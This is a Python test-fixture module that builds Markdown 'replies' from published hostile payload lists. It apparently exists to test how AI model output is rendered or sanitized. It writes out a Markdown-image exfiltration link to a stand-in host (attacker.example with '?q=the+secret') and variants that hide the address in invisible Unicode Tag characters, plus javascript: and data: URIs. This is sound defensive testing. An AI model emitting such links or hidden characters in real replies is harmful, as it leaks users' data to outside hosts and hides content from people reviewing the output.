"""The public lists of payloads as replies: each as text, as where a link leads and as a picture, many in one reply."""

from __future__ import annotations

import json
import re
from pathlib import Path

DATA = Path(__file__).resolve().parents[2] / "data" / "hostile" / "published.json"
HARMLESS = "https://example.org/end-of-reply"  # a link at the end of each reply: no payload has swallowed what follows
MANY = 40  # in one reply: the cost is that of a layout, not of the text
AWAY = "https://attacker.example/logo.png?q=the+secret"
TAGS = 0xE0000  # letters that nobody sees, one for each of ASCII (Unicode Tags, "ASCII smuggling")


def payloads() -> list[str]:
    """Each once. Where a list writes a byte as ``\\x09``, also with that byte."""
    listed = [payload for source in _sources() for payload in source.get("payloads", ())]
    return list(dict.fromkeys([*listed, *map(_with_bytes, listed)]))


def exfiltrations() -> list[str]:
    """Whole pieces of Markdown that would send something away, also with the address written in letters unseen."""
    unseen = "".join(chr(TAGS + ord(letter)) for letter in AWAY)
    pieces = [
        template.format(text=text, uri=uri)
        for source in _sources()
        for template in source.get("templates", ())
        for text in (*source["texts"], f"Hello{unseen}")
        for uri in (AWAY, f"https://attacker.example/{unseen}", f"data:text/html,{unseen}")
    ]
    return [*pieces, f"<{AWAY}{unseen}>", unseen, f"javascript:{unseen}"]


def replies() -> list[str]:
    forms = [form for payload in payloads() for form in _forms(payload)] + exfiltrations()
    return ["\n\n".join((*forms[at : at + MANY], f"[end]({HARMLESS})")) for at in range(0, len(forms), MANY)]


def _forms(payload: str) -> tuple[str, str, str]:
    target = re.sub(r"[<>\\]", r"\\\g<0>", payload).replace("\n", "&#10;").replace("\r", "&#13;")
    return payload, f"[a](<{target}>)", f"![a](<{target}>)"


def _with_bytes(payload: str) -> str:
    return re.sub(r"\\x([0-9A-Fa-f]{2})", lambda found: chr(int(found[1], 16)), payload)


def _sources() -> list[dict[str, list[str]]]:
    sources: list[dict[str, list[str]]] = json.loads(DATA.read_text(encoding="utf-8"))
    return sources
